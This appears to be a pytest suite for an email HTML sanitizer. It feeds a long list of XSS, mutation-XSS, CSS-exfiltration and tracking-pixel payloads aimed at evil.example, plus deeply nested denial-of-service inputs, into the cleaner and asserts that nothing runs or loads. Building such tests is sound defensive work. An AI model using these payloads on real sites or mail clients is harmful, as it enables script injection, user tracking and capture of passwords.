"""HTML of strangers: nothing runs, nothing loads, nothing leaves its place."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.mime.html import TAGS, clean, fragment

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script >",
    "<script>alert(1)",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><image href='http://evil.example/x'/></svg>",
    "<svg><use href='http://evil.example/x#y'/></svg>",
    "<svg><foreignObject><iframe src=http://evil.example></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img/src='http://evil.example/x'/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=javascript:alert(1)>",
    "<img src=' &#14; javascript:alert(1)'>",
    "<img src='http://evil.example/pixel.gif'>",
    "<img src='//evil.example/pixel.gif'>",
    "<img src='\\\\evil.example\\pixel.gif'>",
    "<img src='ht\ntp://evil.example/pixel.gif'>",
    "<img srcset='http://evil.example/1x 1x, http://evil.example/2x 2x'>",
    "<img lowsrc='http://evil.example/x' dynsrc='http://evil.example/y'>",
    "<img src='file:///etc/passwd'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<picture><source srcset='http://evil.example/x'><img></picture>",
    "<body background='http://evil.example/x'>",
    "<table background='http://evil.example/x'><tr><td>x</table>",
    "<td background='//evil.example/x'>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:http://x/y'>x</a>",
    "<a href='http:\\\\evil.example' ping='http://evil.example/ping'>x</a>",
    "<a href='https://ok.example' onmouseover=alert(1) style='position:fixed;top:0'>x</a>",
    "<iframe src='http://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src='http://evil.example'></frameset>",
    "<object data='http://evil.example/x.swf'></object>",
    "<embed src='http://evil.example/x.swf'>",
    "<applet code=x archive='http://evil.example'></applet>",
    "<form action='http://evil.example'><input name=p type=password><button>go</button></form>",
    "<input type=image src='http://evil.example/x' formaction='javascript:alert(1)'>",
    "<isindex action='http://evil.example'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href='http://evil.example/'><img src=x.png>",
    "<link rel=stylesheet href='http://evil.example/x.css'>",
    "<link rel=dns-prefetch href='//evil.example'><link rel=prefetch href='http://evil.example/p'>",
    "<style>@import url(http://evil.example/x.css);</style>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>@\\69mport 'http://evil.example/x.css';</style>",
    "<style>@font-face{font-family:x;src:url(http://evil.example/f)} p{font-family:x}</style>",
    "<style>p{background:url(http://evil.example/x)}</style><p>x",
    "<style>p{background:\\75rl(http://evil.example/x)}</style><p>x",
    "<style>p{background:u/**/rl(http://evil.example/x)}</style><p>x",
    "<style>p{background-image:image-set('http://evil.example/x' 1x)}</style>",
    "<style>p{background:-webkit-cross-fade(url(http://evil.example/a), url(//evil.example/b))}",
    "<style>p::after{content:url(http://evil.example/x)}</style>",
    "<style>p{cursor:url(http://evil.example/x),auto;list-style-image:url(http://evil.example/y)}</style>",
    "<style>:root{--x:url(http://evil.example/x)} p{background:var(--x)}</style>",
    "<style>p{behavior:url(http://evil.example/x.htc);-moz-binding:url(http://evil.example/x.xml#y)}</style>",
    "<style>p{width:expression(alert(1))}</style>",
    "<style>p[x='</style><img src=http://evil.example/x onerror=alert(1)>']{color:red}</style>",
    "<style>p{font-family:'</style><script>alert(1)</script>'}</style>",
    "<style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<style>@media screen{@import 'http://evil.example/x';p{background:url(//evil.example/x)}}</style>",
    "<style>@namespace x url(http://evil.example/x);@page{background:url(http://evil.example/x)}</style>",
    "<style>p{filter:url(http://evil.example/f.svg#x);mask:url(http://evil.example/m)}</style>",
    "<p style='background:url(http://evil.example/x)'>x",
    "<p style='background:url(&quot;http://evil.example/x&quot;)'>x",
    "<p style='background:url(//evil.example/x)'>x",
    "<p style='background-image:\\75\\72\\6c(http://evil.example/x)'>x",
    "<p style='x:expression(alert(1));width:expression(alert(1))'>x",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'>x",
    "<p style='position:absolute;top:0'>x",
    "<p style='position:\\66ixed'>x",
    "<div style='position:sticky;top:0'>x",
    "<video src='http://evil.example/v' poster='http://evil.example/p' autoplay></video>",
    "<audio src='http://evil.example/a' autoplay></audio>",
    "<video><source src='http://evil.example/v'><track src='http://evil.example/t'></video>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if mso]><img src='http://evil.example/x'><![endif]-->",
    "<![CDATA[<img src='http://evil.example/x'>]]>",
    "<?xml-stylesheet href='http://evil.example/x.css'?>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'http://evil.example/x'>]><p>&x;",
    "<p id=location name=cookie>x</p><a id=defaultView name=body></a>",
    "<marquee onstart=alert(1) behavior=x>x</marquee>",
    "<details open ontoggle=alert(1)>x</details>",
    "<blockquote cite='http://evil.example/x'>x</blockquote>",
    "<q cite='javascript:alert(1)'>x</q>",
    "<del cite='http://evil.example'>x</del>",
    "<table><tr><td style='background:#fff url(http://evil.example/x) no-repeat'>x</table>",
    "<div\x00 onclick=alert(1)>x</div>",
    "<p/onclick=alert(1)//>x",
    '<a href="https://ok.example" "onclick=alert(1)">x</a>',
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<p style=\"font-family:'x;} * {background:url(http://evil.example/x)}'\">x",
    "<p style='color:red;/*' onclick='*/'>x",
    "<dialog open>x</dialog><portal src='http://evil.example'></portal>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
]
LOADS = re.compile(
    r"url\s*\(|@import|@font-face|expression|javascript:|vbscript:|evil\.example(?!\s*<)",
    re.IGNORECASE,
)
EMPTY = frozenset(("br", "hr", "img", "col", "wbr"))


class Judge(HTMLParser):
    """Reads cleaned HTML as a browser would, and complains."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.styles = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS or tag == "style", tag
        for name, value in attrs:
            self.judge(name, value or "")
        if tag not in EMPTY:
            self.open.append(tag)

    def judge(self, name: str, value: str) -> None:
        assert not name.startswith("on"), name
        assert name not in (
            "id",
            "name",
            "srcset",
            "action",
            "formaction",
            "ping",
            "poster",
            "cite",
        )
        if name == "href":
            assert value.startswith(("http://", "https://", "mailto:")), value
        elif name in ("src", "background"):
            assert value.startswith(("cid:", "data:image/")), value
        elif name == "style":
            self.styles += value + ";"

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        if self.open and self.open[-1] == "style":
            self.styles += data


def judged(html: str) -> Judge:
    judge = Judge()
    judge.feed(html)
    judge.close()
    assert judge.open == [], "not well formed"
    assert not LOADS.search(judge.styles), judge.styles
    assert not re.search(r"fixed|absolute|sticky|z-index", judge.styles)
    return judge


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_runs_and_nothing_loads(attack: str) -> None:
    judged(clean(attack, remote=False).html)
    judged(clean(f"<p>before</p>{attack}<p>after</p>", remote=False).html)
    assert "<script" not in clean(attack, remote=True).html.lower()


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_is_cleaned_stays_clean(attack: str) -> None:
    once = fragment(attack)
    assert fragment(once) == once


@given(
    st.text(alphabet="<>/='\" abimgsrcstyle!-&;:()\\", max_size=200)
    | st.lists(st.sampled_from(ATTACKS), max_size=4).map("".join)
)
def test_any_mixture_is_harmless(html: str) -> None:
    judged(clean(html, remote=False).html)


@pytest.mark.parametrize(
    ("html", "count"),
    [
        ("<img src=http://x.example/a><img src=//x.example/b>", 2),
        ("<img src=cid:a><img src=data:image/png;base64,AAAA>", 0),
        ("<p style='background:url(http://x.example/a)'>x", 1),
        ("<style>@import 'http://x.example/a'; p{background:url(http://x.example/b)}</style>", 2),
        ("<table background=http://x.example/a><tr><td>x</table>", 1),
        ("<a href=http://x.example>x</a>", 0),
    ],
)
def test_remote_references_are_counted(html: str, count: int) -> None:
    assert clean(html, remote=False).remote_count == count
    assert clean(html, remote=True).remote_count == count


def test_remote_images_stay_where_they_are_allowed() -> None:
    html = (
        "<img src='https://x.example/a.png'><img src='//x.example/b.png'><img src='ftp://x.example/c'>"
        "<p style='background:url(https://x.example/d.png)'>x</p>"
    )
    cleaned = clean(html, remote=True).html
    assert 'src="https://x.example/a.png"' in cleaned
    assert 'src="https://x.example/b.png"' in cleaned
    assert "url(https://x.example/d.png)" in cleaned
    assert "ftp:" not in cleaned


def test_images_of_the_letter_itself_stay() -> None:
    html = '<img src="cid:logo@x" alt="Logo" width="10"><img src="data:image/png;base64,AAAA">'
    assert clean(html, remote=False).html == html


def test_a_huge_data_image_is_dropped() -> None:
    html = "<img src='data:image/png;base64," + "A" * 4_000_000 + "'>"
    assert clean(html, remote=False).html == "<img>"


def test_newsletters_keep_their_looks() -> None:
    html = """<html><head><style>
        body { margin: 0; background-color: #eee }
        .card > td.x:hover, #id { color: #333 !important; padding: 4px 8px }
        @media only screen and (max-width: 600px) { .card { width: 100% !important } }
      </style></head>
      <body bgcolor="#eee"
        style="font-family: Arial, sans-serif; background: #fff url(http://x/y) no-repeat">
      <table class="card" width="600" cellpadding="0" align="center"><tr>
        <td colspan="2" valign="top">
      <font color="red" size="2">Hi</font><center><b>there</b></center></td></tr></table>
      </body></html>"""
    cleaned = clean(html, remote=False).html
    judged(cleaned)
    for kept in (
        ".message-body { margin: 0; background-color: #eee }",
        ".card > td.x:hover, #id { color: #333 !important; padding: 4px 8px }",
        "@media only screen and (max-width: 600px)",
        'class="message-body" bgcolor="#eee"',
        "font-family: Arial, sans-serif",
        'width="600" cellpadding="0" align="center"',
        'colspan="2" valign="top"',
        '<font color="red" size="2">',
    ):
        assert (
            kept in cleaned.replace(' style="font-family', '" style="font-family')
            or kept in cleaned
        )


def test_links_say_where_they_lead() -> None:
    html = (
        '<a href=" https://x.example/?a=1&amp;b=2 " target="_top">x</a>'
        '<a href="mailto:jo@x.example?subject=hi">y</a>'
    )
    assert clean(html, remote=False).html == (
        '<a href="https://x.example/?a=1&amp;b=2" rel="noopener noreferrer">x</a>'
        '<a href="mailto:jo@x.example?subject=hi" rel="noopener noreferrer">y</a>'
    )


def test_every_script_survives() -> None:
    assert clean("<p lang=hi dir=ltr>नमस्ते &amp; こんにちは 😀</p>", remote=False).html == (
        '<p lang="hi" dir="ltr">नमस्ते &amp; こんにちは 😀</p>'
    )


HOSTILE = {
    "depth": "<div>" * 200_000 + "x",
    "depth hidden from a scan": "<div title='</div>'>" * 100_000 + "x",
    "depth behind table cells": "<div><table><td></div>" * 50_000 + "x",
    "depth behind comments": "<div><!--</div>-->" * 50_000 + "x",
    "depth behind cdata": "<div><svg><![CDATA[></div>]]></svg>" * 30_000 + "x",
    "depth behind quotes": "<div \"></div '>" * 100_000 + "x",
    "formatting": "".join(f"<font size={n}>" for n in range(50_000)) + "x",
    "attributes": "<p " + " ".join(f"a{n}=b" for n in range(200_000)) + ">x",
    "unterminated tags": "<a " * 500_000,
    "ampersands": "x &amp; " * 300_000,
    "brackets": "<" * 500_000,
    "comments": "<!--" * 500_000,
    "styles": "<style>" * 300_000,
    "css blocks": "<style>" + "{" * 100_000,
    "css functions": "<style>a{b:" + "f(" * 50_000,
    "inline css": "<p style='color:" + "(" * 50_000 + "'>",
    "media": "<style>" + "@media x{" * 20_000,
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_html_ends_and_is_harmless(name: str) -> None:
    judge = Judge()
    judge.feed(clean(HOSTILE[name], remote=False).html)
    assert not LOADS.search(judge.styles)


def test_what_nests_absurdly_deep_is_shown_as_text() -> None:
    assert clean("<div>" * 10_000 + "a &lt; b", remote=False).html == "<pre>a &lt; b</pre>"
